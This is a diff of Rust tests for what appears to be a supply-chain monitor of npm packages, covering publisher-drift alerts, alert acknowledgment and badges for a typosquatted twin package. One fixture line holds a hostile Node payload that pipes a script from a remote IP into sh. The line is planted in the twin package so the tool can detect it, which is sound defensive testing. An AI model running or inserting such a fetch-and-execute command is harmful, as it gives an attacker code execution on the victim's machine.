@@ -381,8 +381,8 @@ fn whoever_names_his_victim_as_a_helper_does_not_spend_her_share() {
     let hers: &[(&str, &[&str])] = &[("ledgers", &["ann"]), ("vouchers", &["ann"])];
     let messages = flood(|_| "ann".to_owned(), hers);
     let groups = messages[0]["others"].as_array().expect("groups");
-    let of =
-        |account: &str| groups.iter().find(|group| group["publisher"] == account && group["rule"] == "drift/release");
+    let is_of_drift = |group: &&Value| group["rule"].as_str().is_some_and(|rule| rule.starts_with("drift/"));
+    let of = |account: &str| groups.iter().filter(is_of_drift).find(|group| group["publisher"] == account);
     let (ann, mallory) = (of("npm-user:ann"), of("npm-user:ann and npm-user:mallory"));
     let ann = ann.unwrap_or_else(|| panic!("{groups:#?}"));
     assert_eq!(ann["alerts"], 2, "{groups:#?}");
@@ -433,7 +433,12 @@ fn what_an_operator_acknowledged_is_one_package_and_no_twin_of_its_name() {
     let capabilities = crate::rows::rows(&capdex.path().join("out"), "capabilities");
     let ours = capabilities.iter().find(|row| row["package"] == "npm:tides-mcp").expect("a row");
     let alerts = lines(&capdex, &["alerts", "list", "--format", "jsonl", "--as-of", NIGHT]);
-    let of_ours: Vec<&Value> = alerts.iter().filter(|row| row["capability"] == ours["capability"]).collect();
+    let of_ours: Vec<&Value> = alerts
+        .iter()
+        .filter(|row| {
+            row["capability"].as_str().and_then(|id| id.strip_prefix("sha256:")) == ours["capability"].as_str()
+        })
+        .collect();
     assert_eq!(of_ours.len(), 1, "{alerts:#?}");
     let key = of_ours[0]["key"].as_str().expect("a key");
     let acked = capdex.run(&["alerts", "ack", key, "--as-of", NIGHT, "--reason", "ours"]);
@@ -463,16 +468,21 @@ fn a_badge_is_its_packages_whoever_publishes_a_name_that_reads_alike() {
         assert_eq!(answer.status, 200, "{slug}");
         answer.json()["message"].clone()
     };
-    let before = badge(&capdex, "npm-tides-mcp");
+    let rows = |capdex: &Capdex| crate::rows::rows(&capdex.path().join("out"), "capabilities");
+    let of = |rows: &[Value], package: &str, column: &str| {
+        let row = rows.iter().find(|row| row["package"] == package).expect("a row");
+        row[column].as_str().expect("text").to_owned()
+    };
+    let ours = of(&rows(&capdex), "npm:tides-mcp", "slug");
+    let before = badge(&capdex, &ours);
     let hostile = "require('child_process').execSync('curl -s http://198.18.44.7/x | sh');\n";
     night_of(&capdex, &registry, &names[1..], hostile, "21");
-    let rows = crate::rows::rows(&capdex.path().join("out"), "capabilities");
-    let of = |package: &str| rows.iter().find(|row| row["package"] == package).expect("a row");
-    let (ours, twin) = (of("npm:tides-mcp"), of("npm:tides_mcp"));
-    assert_eq!(ours["slug"], "npm-tides-mcp");
-    let slug = twin["slug"].as_str().expect("a slug");
-    assert!(slug.starts_with("npm-tides-mcp--"), "{slug}");
-    assert_ne!(ours["band"], twin["band"], "the control: they are not judged alike");
-    assert_eq!(badge(&capdex, "npm-tides-mcp"), before, "the victim's own");
-    assert_ne!(badge(&capdex, slug), before);
+    let rows = rows(&capdex);
+    assert_eq!(of(&rows, "npm:tides-mcp", "slug"), ours);
+    let twin = of(&rows, "npm:tides_mcp", "slug");
+    assert!(twin.starts_with(&format!("{ours}--")), "{twin}");
+    let band = |package: &str| of(&rows, package, "band");
+    assert_ne!(band("npm:tides-mcp"), band("npm:tides_mcp"), "the control: they are not judged alike");
+    assert_eq!(badge(&capdex, &ours), before, "the victim's own");
+    assert_ne!(badge(&capdex, &twin), before);
 }
